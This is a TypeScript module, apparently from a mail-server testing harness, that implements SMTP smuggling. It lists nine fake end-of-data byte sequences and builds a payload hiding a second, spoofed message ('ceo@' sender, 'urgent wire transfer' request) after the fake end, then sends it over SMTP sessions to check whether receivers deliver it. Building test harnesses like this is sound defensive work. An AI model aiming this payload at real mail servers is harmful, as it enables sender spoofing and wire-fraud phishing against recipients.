// SMTP smuggling (SEC Consult, 2023): a message whose body holds a fake
// end-of-data (`\n.\n`, `\r.\r\n`, NUL variants, ...) followed by the commands
// and content of a second, "smuggled" message with its own id. A receiver that
// takes the fake end for the real one delivers two messages; the ledger looks
// for the smuggled id at the backends.
import { sleep } from '../clock.ts';
import { ID_HEADER } from '../message.ts';
import type { PlannedSmuggle, SmugglerPlan } from '../plan.ts';
import type { SmugglingVariant } from '../scenario/schema.ts';
import { withoutReply, type ReplyInfo } from '../events.ts';
import { Tasks, type ActorContext } from './context.ts';
import { Session } from './session.ts';

export const VARIANT_BYTES: Record<SmugglingVariant, string> = {
  'lf-dot-lf': '\n.\n',
  'lf-dot-crlf': '\n.\r\n',
  'cr-dot-crlf': '\r.\r\n',
  'crlf-dot-cr': '\r\n.\r',
  'cr-dot-cr': '\r.\r',
  'cr-dot-lf': '\r.\n',
  'lf-dot-cr': '\n.\r',
  'crlf-nul-dot-crlf': '\r\n\x00.\r\n',
  'crlf-dot-nul-crlf': '\r\n.\x00\r\n',
};

/** The DATA payload (without the real final dot): outer message, fake end, smuggled transaction. */
export function smugglingPayload(s: Pick<PlannedSmuggle, 'variant' | 'id' | 'smuggledId'>, domain: string): string {
  const outer = [`From: <attacker@smuggler.test>`, `To: <victim@${domain}>`, `Subject: hello`, `Message-ID: <${s.id}@smuggler.test>`, `${ID_HEADER}: ${s.id}`, '', 'hello'].join('\r\n');
  const smuggled = [
    `MAIL FROM:<ceo@${domain}>`,
    `RCPT TO:<victim@${domain}>`,
    'DATA',
    `From: <ceo@${domain}>`,
    `To: <victim@${domain}>`,
    'Subject: urgent wire transfer',
    `${ID_HEADER}: ${s.smuggledId}`,
    '',
    'Please wire the money today.',
  ].join('\r\n');
  return outer + VARIANT_BYTES[s.variant] + smuggled + '\r\n';
}

export async function runSmuggler(ctx: ActorContext<SmugglerPlan>): Promise<void> {
  const { plan, bus } = ctx;
  const spec = plan.spec;
  const tasks = new Tasks();
  const send = async (p: PlannedSmuggle) => {
    const t = spec.timeout;
    const base = { actor: plan.name, client: plan.clients[p.client], variant: p.variant, id: p.id, smuggledId: p.smuggledId };
    // the carrier is a message like any other: it has an outcome in the ledger
    const payload = smugglingPayload(p, spec.domain);
    const size = payload.length;
    bus.emit('message.queued', { actor: plan.name, id: p.id, client: base.client, size, recipients: 1 });
    bus.emit('message.attempt', { actor: plan.name, id: p.id, client: base.client, attempt: 1 });
    const outcome = (info: ReplyInfo) => {
      const o = info.code === null ? withoutReply(ctx.abort.aborted) : info.code === 250 ? 'accepted' : info.code < 500 ? 'deferred' : 'rejected';
      bus.emit('message.outcome', { actor: plan.name, id: p.id, outcome: o, attempts: 1, size, ...info });
    };
    const opened = await Session.open(ctx, p.client, { timeoutMs: t });
    if (!opened.ok) return outcome(opened.info);
    const s = opened.session;
    const steps: Array<[Parameters<Session['cmd']>[0], string, number]> = [
      ['ehlo', 'EHLO smuggler.test', 250],
      ['mail', 'MAIL FROM:<attacker@smuggler.test>', 250],
      ['rcpt', `RCPT TO:<victim@${spec.domain}>`, 250],
      ['data', 'DATA', 354],
    ];
    for (const [stage, line, want] of steps) {
      const r = await s.cmd(stage, line, t, p.id);
      if (r.reply?.code !== want) {
        bus.emit('smuggle.sent', { ...base, ...r.info });
        outcome(r.info);
        return s.closed ? undefined : s.quit();
      }
    }
    await s.conn.write(payload);
    const final = await s.cmd('dot', '.', t * 3, p.id);
    bus.emit('smuggle.sent', { ...base, ...final.info });
    outcome(final.info);
    if (!s.closed) await s.quit();
  };
  for (const p of plan.smuggles) {
    if (!(await sleep(ctx.clock, p.t - ctx.elapsed(), ctx.ending))) break;
    tasks.add(send(p));
  }
  await tasks.all();
}
